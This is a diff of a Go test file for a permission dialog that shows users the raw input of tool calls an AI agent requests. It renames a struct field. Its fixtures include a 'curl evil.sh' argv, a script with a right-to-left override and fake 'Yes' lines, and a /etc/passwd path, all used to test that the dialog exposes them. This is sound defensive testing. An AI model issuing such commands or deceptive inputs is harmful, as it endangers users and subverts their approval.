@@ -25,7 +25,7 @@ func TestRawInputIsShown(t *testing.T) {
 	} {
 		t.Run(raw, func(t *testing.T) {
 			p := editPermission()
-			p.ToolCall.RawInput = []byte(raw)
+			p.Asked.RawInput = []byte(raw)
 			d, _ := armed(p)
 			if text := shownBy(d, 100, 60); !strings.Contains(text, evil) {
 				t.Errorf("what would be done is not shown:\n%s", text)
@@ -34,7 +34,7 @@ func TestRawInputIsShown(t *testing.T) {
 	}
 	t.Run("argv", func(t *testing.T) {
 		p := runPermission()
-		p.ToolCall.RawInput = []byte(`{"argv":["curl","evil.sh"]}`)
+		p.Asked.RawInput = []byte(`{"argv":["curl","evil.sh"]}`)
 		d, _ := armed(p)
 		if text := shownBy(d, 100, 60); !strings.Contains(text, `"curl"`) || !strings.Contains(text, `"evil.sh"`) {
 			t.Errorf("what would be done is not shown:\n%s", text)
@@ -45,7 +45,7 @@ func TestRawInputIsShown(t *testing.T) {
 // A script is shown in its own lines, behind a bar: they cannot look like answers.
 func TestRawInputIsReadable(t *testing.T) {
 	p := runPermission()
-	p.ToolCall.RawInput = []byte(`{"script":"set -e\n  1  y  ✓ Yes\nif a; then\n\tb\u202e\nfi","timeout":5000}`)
+	p.Asked.RawInput = []byte(`{"script":"set -e\n  1  y  ✓ Yes\nif a; then\n\tb\u202e\nfi","timeout":5000}`)
 	d, _ := armed(p)
 	text := strings.Join(d.View(80, 40).Lines, "\n")
 	for _, want := range []string{"script", "set -e", "if a; then", "    b⟨U+202E⟩", "timeout", "5000"} {
@@ -61,7 +61,7 @@ func TestRawInputIsReadable(t *testing.T) {
 // What is shown otherwise is not shown twice.
 func TestWhatIsShownOtherwiseIsNotRepeated(t *testing.T) {
 	old := "a"
-	p := &conversation.Permission{ID: 7, Options: usualOptions(), ToolCall: &conversation.ToolCall{
+	p := &conversation.Permission{ID: 7, Options: usualOptions(), Asked: &conversation.ToolCall{
 		Title: "Edit", Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/main.go", &old, "b")},
 		RawInput: []byte(`{"file_path":"/home/ada/greet/main.go","old_string":"a","new_string":"b"}`),
 	}}
@@ -70,14 +70,14 @@ func TestWhatIsShownOtherwiseIsNotRepeated(t *testing.T) {
 		t.Errorf("it is shown twice:\n%s", text)
 	}
 	p = runPermission()
-	p.ToolCall.RawInput = []byte(`{"command":"ls","args":["-l"],"cwd":"/home/ada/greet"}`)
+	p.Asked.RawInput = []byte(`{"command":"ls","args":["-l"],"cwd":"/home/ada/greet"}`)
 	d, _ = armed(p)
 	if text := shownBy(d, 80, 40); strings.Contains(text, "cwd") || strings.Contains(text, "args") {
 		t.Errorf("it is shown twice:\n%s", text)
 	}
 	// The same name with another value is something else.
 	p = editPermission()
-	p.ToolCall.RawInput = []byte(`{"file_path":"/etc/passwd"}`)
+	p.Asked.RawInput = []byte(`{"file_path":"/etc/passwd"}`)
 	d, _ = armed(p)
 	if text := shownBy(d, 80, 40); !strings.Contains(text, "/etc/passwd") {
 		t.Errorf("the other path is not shown:\n%s", text)
